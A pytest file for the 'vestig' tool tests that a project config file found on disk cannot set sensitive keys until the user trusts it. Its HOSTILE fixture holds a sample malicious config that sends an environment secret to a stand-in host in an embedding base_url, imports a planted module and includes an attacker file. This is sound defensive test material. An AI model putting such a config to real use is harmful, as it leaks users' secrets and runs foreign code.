"""A project file that was merely found: what it may set, and what trusting it changes."""

from __future__ import annotations

import json
import os
import stat
import sys
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

import vestig
from vestig.config import Config, InvalidConfigError, load
from vestig.config.schema import key_specs
from vestig.config.trust import found_file_may_set, trust, trusted_files, untrust
from vestig.errors import ConfigError, ConfigNotFoundError, NotFoundError, VestigError
from vestig.surfaces.cli import run

KEYS = tuple(key_specs())

Loader = Callable[..., Config]

# Sections that a file may set wherever it was found; every other one only when it is trusted.
ANYWHERE = (
    "usage", "links", "questions", "walk", "ranking", "reference", "signals", "recall", "search",
    "decay", "retrieve",
)  # fmt: skip
REFUSED = tuple(
    key
    for key in KEYS
    if (key.split(".")[0] not in ANYWHERE and key != "time.zone")
    or key
    in (
        "questions.model",
        "ranking.weights",
        "recall.synthesize",
        "recall.query_entities",
        "retrieve.llm",
        "retrieve.llm_max_calls",
        "retrieve.message_blacklist",
    )
)
SECRET = "s3cret-of-the-environment"


class Environment(dict[str, str]):
    """Variables, with the names of those that were read."""

    def __init__(self, given: Mapping[str, str]) -> None:
        super().__init__(given)
        self.seen: set[str] = set()

    def __getitem__(self, name: str) -> str:
        self.seen.add(name)
        return super().__getitem__(name)

    def get(self, name: str, default: Any = None) -> Any:
        self.seen.add(name)
        return super().get(name, default)

    def items(self) -> Any:
        self.seen.update(self)
        return super().items()

    def values(self) -> Any:
        self.seen.update(self)
        return super().values()


class Audit:
    """Files opened, modules imported and addresses looked up, while `on`."""

    def __init__(self) -> None:
        self.on = False
        self.opened: list[str] = []
        self.imported: list[str] = []
        self.asked: list[str] = []

    def __call__(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.on:
            return
        if event == "open":
            self.opened.append(str(arguments[0]))
        elif event == "import":
            self.imported.append(str(arguments[0]))
        elif event.startswith("socket."):
            self.asked.append(event)


@pytest.fixture(scope="module")
def hook() -> Audit:
    audit = Audit()
    sys.addaudithook(audit)
    return audit


@pytest.fixture
def audit(hook: Audit) -> Iterator[Audit]:
    hook.opened, hook.imported, hook.asked, hook.on = [], [], [], True
    try:
        yield hook
    finally:
        hook.on = False


@pytest.fixture
def below(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working directory, two folders below the one with the project file."""
    folder = home / "project" / "a" / "b"
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    for name in ("CONFIG", "DATA", "STATE"):
        monkeypatch.setenv(f"XDG_{name}_HOME", str(home / name.lower()))
    return folder


def _write(home: Path, text: str, name: str = "vestig.yaml") -> Path:
    file = home / "project" / name
    file.write_text(text, encoding="utf-8")
    return file.resolve()


def _value(key: str) -> Any:
    spec = key_specs()[key]
    if key == "entities.ontology":
        return "insight"
    if spec.default is not None:
        return spec.default
    return 7 if "integer" in spec.allowed else "other"


def test_the_keys_that_only_a_trusted_file_may_set() -> None:
    assert {key for key in KEYS if not found_file_may_set(key)} == set(REFUSED)
    for key in ("questions.model", "recall.synthesize", "recall.query_entities", "ranking.weights"):
        section = key.partition(".")[0]
        assert not found_file_may_set(key)
        assert not found_file_may_set(section), "null resets all of it"
    assert not found_file_may_set("ranking.weights.note.cosine")
    assert found_file_may_set("walk"), "all of it may be set"
    assert not found_file_may_set("llm.provider")
    assert not found_file_may_set("recallx.profile")


@pytest.mark.parametrize("key", [key for key in REFUSED if key != "ranking.weights"])
def test_a_refused_key_is_named_with_its_line_and_the_command(
    loaded: Loader, home: Path, key: str
) -> None:
    text = f"# a comment\nwalk: {{max_nodes: 3}}\n{key}: {json.dumps(_value(key))}\n"
    file = home / "project" / "vestig.yaml"
    with pytest.raises(InvalidConfigError) as caught:
        loaded(text, found=True)
    [problem] = caught.value.problems
    assert problem.text() == (
        f"{file}:3: {key}: only a trusted file may set this; look at it, then run"
        f" `vestig config trust {file}`"
    )
    # the same file does as it says where the caller names it
    assert loaded(text).effective()[key].layer == "project"


@pytest.mark.parametrize(
    "text",
    [
        "ranking: {weights: {note: {cosine: -9}}}",
        "ranking.weights.note.cosine: 2",
        "m5: {signals: {weights: {note: {cosine: 2}}}}",
        "recall: {profiles: {own: {ranking.weights: {note: {cosine: 2}}}}}",
        "recall.profiles.own.ranking.weights: own.json",
        "ranking.weights: own.json",
        "hygiene: {near_duplicate: {threshold: 0, enabled: true}}",
        "hygiene:",
        "hygiene.max_chars: 1",
        "recall:",
        "retrieve:",
        "keywords: {stopwords: [peanuts]}",
        "entities: {enabled: false}",
        "m4.entity_extraction: {enabled: false}",
    ],
)
def test_what_a_found_file_may_not_say_is_refused_in_every_spelling(
    loaded: Loader, text: str
) -> None:
    with pytest.raises(InvalidConfigError, match="only a trusted file may set this"):
        loaded(f"{text}\n", found=True)


# Values at the ends of their ranges, of everything that a found file may set.
EXTREMES: dict[str, tuple[Any, ...]] = {
    "true or false": (True, False),
    "number": (0, 1, 0.001, 1_000),
    "integer": (0, 1, 1_000),
}


def test_no_file_that_was_found_loses_a_text(loaded: Loader, tmp_path: Path) -> None:
    """Each key that it may set, at the ends of its range: what is committed is there."""
    texts = (
        "The pier in Oslo is 17 metres long.",
        "My daughter is allergic to peanuts.",
        "The spare key hangs behind the boiler.",
        "The pier in Oslo is 18 metres long.",
    )
    accepted = 0
    for key, spec in key_specs().items():
        if not found_file_may_set(key) or key == "signals.rerank.enabled":  # needs a reranker
            continue
        values = next((v for name, v in EXTREMES.items() if name in spec.allowed), ())
        for value in values:
            try:
                loaded(f"{key}: {json.dumps(value)}\n", found=True)
            except ConfigError:  # out of its range
                continue
            accepted += 1
            config = {"embedding.provider": "hashing", "embedding.dimension": 8, key: value}
            with vestig.open(":memory:", config=config) as store:
                for text in texts:
                    assert store.commit(text).outcome.value == "INSERTED_NEW", (key, value)
                assert {one.content for one in store.list()} == set(texts), (key, value)
    assert accepted > 100


HOSTILE = """\
include: evil.yaml
namespace: theirs
store: {path: their-store}
embedding:
  provider: spy_module
  base_url: http://203.0.113.7:9/?${SECRET}
  api_key_env: SECRET
reranker: {provider: 'spy_module:make', model: /etc}
time: {zone: '${SECRET}'}
keywords: {stopwords: ['${SECRET}', fine]}
entities:
  ontology: [{name: A, description: '${SECRET}'}]
ranking: {weights: evil.json}
recall:
  profile: theirs
  profiles:
    theirs: {ranking.weights: evil.json, ranking.base: '${SECRET:-x}'}
hooks: {strict: '${DOTENV_ONLY}'}
enrichment:
lifecycle: &l {default_policy: permanent}
hygiene: {min_chars: 1}
"""
LINES = {
    "include": 1,
    "namespace": 2,
    "store.path": 3,
    "embedding.provider": 5,
    "embedding.base_url": 6,
    "embedding.api_key_env": 7,
    "reranker.provider": 8,
    "reranker.model": 8,
    "time.zone": 9,
    "keywords.stopwords": 10,
    "entities.ontology": 12,
    "ranking.weights": 13,
    "recall.profiles.theirs.ranking.weights": 17,
    "recall.profiles.theirs.ranking.base": 17,
    "hooks.strict": 18,
    "enrichment.mode": 19,
    "lifecycle.default_policy": 20,
    "hygiene.min_chars": 21,
}


@pytest.fixture
def hostile(home: Path, below: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that somebody else filled, above the working directory."""
    _write(home, "namespace: evil\n", "evil.yaml")
    _write(home, "{}", "evil.json")
    _write(home, "DOTENV_ONLY=true\nSECRET=no\n", ".env")
    _write(home, "raise SystemExit('imported')\n", "spy_module.py")
    monkeypatch.syspath_prepend(str(home / "project"))
    return _write(home, HOSTILE)


@pytest.mark.parametrize(
    "act",
    [
        vestig.open,
        lambda: vestig.open("mine"),
        lambda: vestig.open("mine", config={"recall.default_limit": 3}),
        load,
        lambda: run(["memory", "add", "The office is in Oslo", "--store", "mine"]),
        lambda: run(["memory", "recall", "office", "--namespace", "mine"]),
        lambda: run(["config", "show", "--all"]),
        lambda: run(["config", "explain", "namespace"]),
        lambda: run(["doctor", "--store", "mine"]),
    ],
    ids=["open", "open path", "open keys", "load", "add", "recall", "show", "explain", "doctor"],
)
def test_a_hostile_folder_leads_nowhere(
    hostile: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    audit: Audit,
    act: Callable[[], Any],
) -> None:
    home = hostile.parents[1]
    environ = Environment({**os.environ, "SECRET": SECRET})
    before = set(home.rglob("*"))
    with monkeypatch.context() as patch:
        patch.setattr(os, "environ", environ)
        try:
            assert act() == 2
            text = capfd.readouterr().err
        except ConfigError as error:
            text = str(error)
    audit.on = False
    for key, line in LINES.items():
        assert f"{hostile}:{line}: {key}: only a trusted file may " in text, key
    assert text.count(f"run `vestig config trust {hostile}`") == text.count("- /")
    assert SECRET not in text
    assert environ.seen.isdisjoint({"SECRET", "DOTENV_ONLY"})
    inside = {Path(name).name for name in audit.opened if str(home / "project") in name}
    assert inside == {"vestig.yaml"}
    assert "spy_module" not in {*audit.imported, *sys.modules}
    assert audit.asked == []
    assert set(home.rglob("*")) == before


ALLOWED = """\
time: {zone: Europe/Oslo}
usage: {k: 0.5}
links: {related: {enabled: false}}
questions: {enabled: false}
walk: {max_nodes: 7}
ranking: {base: blend}
reference: {alpha_meta: 0.1}
signals: {late: {enabled: false}}
recall: {profile: own, profiles: {own: {ranking.pool: 9}}}
search: {limit: 3}
decay: {basis: creation}
"""


def test_what_shapes_ranking_and_layout_acts_wherever_it_was_found(
    loaded: Loader, home: Path
) -> None:
    (home / "project" / ".env").write_text("A=b\n", encoding="utf-8")
    config = loaded(ALLOWED, found=True)
    settings = config.settings
    assert (settings.time.zone, settings.ranking.base) == ("Europe/Oslo", "blend")
    assert (settings.walk.max_nodes, settings.ranking.pool) == (7, 9)
    assert len({key for key, e in config.effective().items() if e.layer == "project"}) >= 11
    assert not (home / "state").exists()
    old = loaded("m5: {traversal: {max_nodes: 8}}\n", found=True)
    assert old.settings.walk.max_nodes == 8
    # a literal is no variable
    with pytest.raises(ConfigError, match=r"\$\{A\}.*time zone|time.zone.*\$\{A\}"):
        loaded("time: {zone: '$${A}'}\n", found=True)


def test_unknown_keys_of_a_found_file_are_unknown(loaded: Loader) -> None:
    with pytest.raises(ConfigError, match=r"hygene\.min_chars: unknown key"):
        loaded("hygene: {min_chars: 3}\n", found=True)


def test_named_files_are_trusted(home: Path, below: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = _write(home, "namespace: named\n")
    with pytest.raises(ConfigError, match="only a trusted file"):
        load()
    assert load(file).settings.namespace == "named"
    assert vestig.open(":memory:", config=file)._session.namespace == "named"
    monkeypatch.setenv("VESTIG_CONFIG", str(file))
    assert load().settings.namespace == "named"
    monkeypatch.delenv("VESTIG_CONFIG")
    file.unlink()
    own = home / "config" / "vestig" / "config.yaml"
    own.parent.mkdir(parents=True)
    own.write_text("namespace: ${NAME}\n", encoding="utf-8")
    monkeypatch.setenv("NAME", "own")
    assert load().settings.namespace == "own"


@pytest.fixture
def project(home: Path, below: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file that needs trust, with an include of an include, a variable and a `.env`."""
    _write(home, "include: deep.yaml\nkeywords: {stopwords: [one]}\n", "more.yaml")
    _write(home, "store: {durability: normal}\n", "deep.yaml")
    _write(home, "NAME=by-dotenv\n", ".env")
    return _write(home, "include: more.yaml\nnamespace: ${NAME}\n")


def _settings() -> tuple[str, str, tuple[str, ...]]:
    settings = load().settings
    return settings.namespace, settings.store.durability, settings.keywords.stopwords


def test_a_trusted_file_acts_until_it_is_removed(
    project: Path, home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(ConfigError, match=r"vestig config trust .*vestig\.yaml"):
        load()
    assert run(["config", "trust", "../../vestig.yaml"]) == 0
    said = capfd.readouterr().out
    assert f"trusted: {project}" in said
    for name in ("more.yaml", "deep.yaml", ".env"):
        assert f"reads {project.parent / name}" in said
    assert f"{project}:2: namespace = ${{NAME}}" in said
    assert f"{project.parent / 'deep.yaml'}:1: store.durability = normal" in said
    assert "by-dotenv" not in said
    assert _settings() == ("by-dotenv", "normal", ("one",))
    assert run(["config", "trust", "--list", "--json"]) == 0
    [row] = json.loads(capfd.readouterr().out)["trust"]
    assert (row["file"], row["state"], len(row["reads"])) == (str(project), "trusted", 3)
    assert run(["config", "trust", "--remove", str(project)]) == 0
    assert f"removed: {project}" in capfd.readouterr().out
    with pytest.raises(ConfigError, match="only a trusted file"):
        load()
    assert run(["config", "trust", "--list"]) == 0
    assert "no file is trusted" in capfd.readouterr().out
    assert run(["config", "trust", "--remove", str(project)]) == 1
    assert "trusted file not found" in capfd.readouterr().err


@pytest.mark.parametrize("name", ["vestig.yaml", "more.yaml", "deep.yaml", ".env"])
def test_one_byte_changed_asks_again(project: Path, name: str) -> None:
    trust(project)
    file = project.parent / name
    raw = file.read_bytes()
    file.write_bytes(raw + b"\n")
    with pytest.raises(ConfigError) as caught:
        load()
    assert "has changed since it was trusted" in str(caught.value)
    assert f"vestig config trust {project}" in str(caught.value)
    assert [row.state for row in trusted_files()] == ["changed"]
    trust(project)
    assert _settings()[0] == "by-dotenv"
    file.write_bytes(raw)
    with pytest.raises(ConfigError, match="has changed since"):
        load()


@pytest.mark.parametrize("name", ["more.yaml", ".env"])
def test_a_file_that_comes_or_goes_asks_again(project: Path, name: str) -> None:
    trust(project)
    (project.parent / name).unlink()
    with pytest.raises(ConfigError, match="has changed since"):
        load()
    (project.parent / ".env").unlink(missing_ok=True)
    _write(project.parents[1], "namespace: x\n")
    trust(project)
    assert load().settings.namespace == "x"
    (project.parent / ".env").write_text("A=b\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="has changed since"):
        load()


def test_a_variable_leads_a_trusted_file_to_no_other_include(
    home: Path, below: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _write(home, "namespace: one\n", "one.yaml")
    _write(home, "namespace: two\n", "two.yaml")
    monkeypatch.setenv("WHICH", "one")
    file = _write(home, "include: ${WHICH}.yaml\n")
    trust(file)
    assert load().settings.namespace == "one"
    monkeypatch.setenv("WHICH", "two")
    with pytest.raises(ConfigError, match=r"include: \$\{WHICH\}\.yaml is another file than when"):
        load()


def test_another_file_with_the_same_text_is_not_trusted(project: Path, home: Path) -> None:
    trust(project)
    other = home / "project" / "a" / "vestig.yaml"
    other.write_bytes(project.read_bytes())
    with pytest.raises(ConfigError, match="only a trusted file") as caught:
        load()
    assert "has changed" not in str(caught.value)
    other.unlink()
    other.symlink_to(project)
    assert _settings()[0] == "by-dotenv"


def test_records_lie_in_the_state_folder_for_the_user_alone(project: Path, home: Path) -> None:
    trust(project)
    folder = home / "state" / "vestig" / "trusted"
    [record] = folder.iterdir()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    found = json.loads(record.read_text())
    assert found["path"] == str(project)
    assert len(found["files"]) == 4
    record.write_text("{}", encoding="utf-8")
    with pytest.raises(ConfigError, match="expected the record of a trusted file"):
        load()
    # a record under another name proves nothing
    record.write_text(json.dumps({**found, "path": "/elsewhere/vestig.yaml"}), encoding="utf-8")
    with pytest.raises(ConfigError, match="only a trusted file"):
        load()


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (None, ConfigNotFoundError),
        ("- a\n", ConfigError),
        ("a: [\n", ConfigError),
        ("include: gone.yaml\n", ConfigError),
        ("include: ${NOT_SET}.yaml\n", ConfigError),
        ("include: vestig.yaml\n", ConfigError),
    ],
)
def test_a_file_that_cannot_be_read_is_not_trusted(
    home: Path, below: Path, text: str | None, error: type[VestigError]
) -> None:
    file = home / "project" / "vestig.yaml"
    if text is not None:
        _write(home, text)
    with pytest.raises(error):
        trust(file)
    assert trusted_files() == []
    with pytest.raises(NotFoundError):
        untrust(file)


def test_a_file_that_is_gone_is_listed_so(project: Path) -> None:
    trust(project)
    project.unlink()
    assert [(row.file, row.state) for row in trusted_files()] == [(str(project), "gone")]
    assert untrust(project).state == "removed"
    assert trusted_files() == []


@pytest.mark.parametrize("words", [(), ("x", "--list"), ("x", "--remove", "y")])
def test_trust_takes_one_of_three(
    below: Path, capfd: pytest.CaptureFixture[str], words: tuple[str, ...]
) -> None:
    assert run(["config", "trust", *words]) == 2
    assert "one of FILE, --list and --remove FILE" in capfd.readouterr().err


def test_the_dotenv_of_a_project_is_nothing_to_the_users_own_file(
    loaded: Loader, home: Path
) -> None:
    (home / "project" / ".env").write_text("WHERE=theirs\n", encoding="utf-8")
    config = loaded("walk: {max_nodes: 3}\n", user="namespace: ${WHERE:-own}\n", found=True)
    assert config.settings.namespace == "own"
